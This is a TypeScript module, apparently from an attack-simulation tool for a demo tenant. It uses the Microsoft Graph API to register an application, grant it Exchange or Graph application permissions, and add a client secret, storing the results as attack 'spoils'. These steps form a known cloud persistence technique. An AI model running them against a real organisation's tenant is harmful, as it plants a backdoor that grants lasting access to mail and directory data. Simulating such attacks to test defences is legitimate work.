import { API_RESOURCES } from '../tenant-data/microsoft-api-permissions.js';
import type { AttackArtifacts } from './attack-step.js';
import { type DemoTenantClient, readTextProperty } from './demo-tenant-client.js';

/** Registers an app and makes its service principal; notes their ids. */
export async function registerApp(
  client: DemoTenantClient,
  token: string,
  displayName: string,
  spoils: AttackArtifacts,
): Promise<void> {
  const application = await client.graph(token, 'POST', '/applications', { displayName });
  spoils.applicationId = readTextProperty(application, 'id');
  spoils.appId = readTextProperty(application, 'appId');
  const { appId } = spoils;
  spoils.servicePrincipalId = readTextProperty(
    await client.graph(token, 'POST', '/servicePrincipals', { appId }),
    'id',
  );
}

/** Grants the app an application permission of one of Microsoft's APIs. */
export async function grantAppRole(
  client: DemoTenantClient,
  token: string,
  { api, permission }: { readonly api: 'exchange' | 'graph'; readonly permission: string },
  { servicePrincipalId }: AttackArtifacts,
): Promise<void> {
  const { appId, appRoles } = API_RESOURCES[api];
  const resource = await client.graph(token, 'GET', `/servicePrincipals(appId='${appId}')`);
  await client.graph(token, 'POST', `/servicePrincipals/${servicePrincipalId}/appRoleAssignments`, {
    principalId: servicePrincipalId,
    resourceId: readTextProperty(resource, 'id'),
    appRoleId: appRoles.find(({ value }) => value === permission)?.id ?? '',
  });
}

/** Adds a secret to the app and keeps it. */
export async function addSecret(
  client: DemoTenantClient,
  token: string,
  displayName: string,
  spoils: AttackArtifacts,
): Promise<void> {
  const path = `/applications/${spoils.applicationId}/addPassword`;
  const body = { passwordCredential: { displayName } };
  spoils.secret = readTextProperty(await client.graph(token, 'POST', path, body), 'secretText');
}
